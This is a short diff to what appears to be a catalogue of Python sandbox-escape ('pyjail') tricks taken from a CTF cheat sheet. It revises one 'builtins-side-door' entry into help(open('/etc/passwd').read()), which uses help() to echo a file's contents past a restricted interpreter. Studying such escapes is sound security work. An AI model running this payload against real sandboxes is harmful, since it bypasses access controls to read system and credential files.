@@ -1,4 +1,4 @@
 # Source: github.com/salvatore-abello/python-ctf-cheatsheet pyjails/README.md (help(*open('flag')))
 # Family: builtins-side-door
-# What: help(*open(path)) prints the file contents
-help(*open("/etc/passwd"))
+# What: help() of a string prints it back ('No Python documentation found for ...'): the file contents leak
+help(open("/etc/passwd").read())
